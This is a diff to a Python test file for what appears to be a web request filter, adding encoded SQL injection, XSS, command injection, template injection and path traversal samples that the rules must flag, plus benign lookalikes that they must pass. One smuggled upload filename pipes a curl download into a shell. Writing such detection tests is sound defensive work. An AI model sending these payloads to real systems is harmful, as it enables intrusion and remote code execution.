@@ -48,7 +48,24 @@ def _body(content_type: str, body: bytes) -> Request:
                                            ("Content-Length", str(len(body)))], body)
 
 
+def _raw(content_type: str | None, text: str) -> Request:
+    data = text.encode()
+    headers = [*HEADERS, ("Content-Length", str(len(data)))]
+    if content_type is not None:
+        headers.append(("Content-Type", content_type))
+    return Request("POST", "/api/ingest", headers, data)
+
+
 HITS = [
+    (20001, _query("1%2527%2520or%2520%25271%2527%253D%25271", "id")),
+    (20001, _json('{"id": "1\\\\u0027 union select password from users--"}')),
+    (20002, _json('{"bio": "\\\\u003cimg src=x onerror=alert(1)\\\\u003e"}')),
+    (20002, Request("GET", "/", [*HEADERS, ("X-Display-Name", "%253Csvg%252Fonload%253Dalert(1)%253E")])),
+    (20003, _query("&#x3b;&#x20;cat&#x20;/etc/passwd", "host")),
+    (20003, _json('{"tpl": "\\\\u007b\\\\u007b7*7\\\\u007d\\\\u007d"}')),
+    (20005, _query("Li4vLi4vLi4vZXRjL3Bhc3N3ZA==", "file")),
+    (20005, Request("GET", "/", [*HEADERS, ("X-Payload", "PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+")])),
+    (20005, _json('{"data": "JChpZCk="}')),
     (20101, _json('{"user": {"$ne": null}, "password": {"$ne": null}}')),
     (20101, _query("x", "user[$ne]")),
     (20101, _json('{"filter": {"age": {"$Gt": 0}}}')),
@@ -140,6 +157,10 @@ HITS = [
                                      b"{{ cycler.__init__.__globals__.os.popen('id').read() }}</body></t>")),
     (20204, Request("GET", "/", [*HEADERS, ("X-Greeting", "{{7*7}}")])),
     (20803, Request("GET", "/", [("Host", "shop.example.test"), ("User-Agent", "curl/8.5.0;`id`")])),
+    (20807, Request("GET", "/", [*HEADERS, ("X-Filter", "JyBvciAnMSc9JzE=")])),
+    (20912, _raw(None, "' or '1'='1")),
+    (20912, _raw("text/plain", "id=1' AND 1=1 UNION SELECT 1,2-- -")),
+    (20801, _raw(None, ";id")),
     (20901, _upload("q3'),((SELECT password FROM users LIMIT 1)).txt", b"x", "text/plain")),
     (20901, _upload("x.png;curl 198.51.100.4|sh;.png", b"\x89PNG", "image/png")),
     (20901, _upload("a`id`.gif", b"GIF89a")),
@@ -196,6 +217,12 @@ MISSES = [
                                         "(KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1"),
                          ("Referer", "https://example.test/blog/php-system-calls-explained?p=2")]),
     _path("/docs/javascript/closures"),
+    _query("https://example.test/a%20b/report%2Bq1.pdf", "next"),
+    _json('{"name": "Ren\\\\u00e9e \\\\u2013 caf\\\\u00e9", "html": "caf&eacute; &#169; 2025 &#8211; 100% ok"}'),
+    _query("eyJzdWIiOiI0MiIsIm5hbWUiOiJBbGljZSJ9", "state"),
+    _query("aGVsbG8gd29ybGQsIHRoaXMgaXMgYSBub3RlIQ==", "note"),
+    Request("GET", "/", [*HEADERS, ("X-Request-Id", "dGhpcyBpcyBhIHRyYWNlIGlk"),
+                         ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")]),
     Request("GET", "/", [*HEADERS, ("X-Template", "{{ greeting }}, {{ name }}"), ("X-Filter", '{"owner": "bob"}')]),
     _upload("Liam O'Connell CV.pdf", b"%PDF-1.4", "application/pdf"),
     _upload("John's holiday (2).gif", b"GIF89a"),
@@ -233,14 +260,6 @@ def test_own_rules_use_their_id_range_and_every_rule_has_a_test() -> None:
     assert ids and all(10000 <= i <= 29999 for i in ids)
     tested = {rule for rule, _ in HITS} | {rule for rule, _, _ in BODY_READERS}
     assert ids <= tested, sorted(ids - tested)
-
-
-def _raw(content_type: str | None, text: str) -> Request:
-    data = text.encode()
-    headers = [*HEADERS, ("Content-Length", str(len(data)))]
-    if content_type is not None:
-        headers.append(("Content-Type", content_type))
-    return Request("POST", "/api/ingest", headers, data)
 
 
 # Rules that only choose how a body is read (no score of their own): the attack in such a body is found by
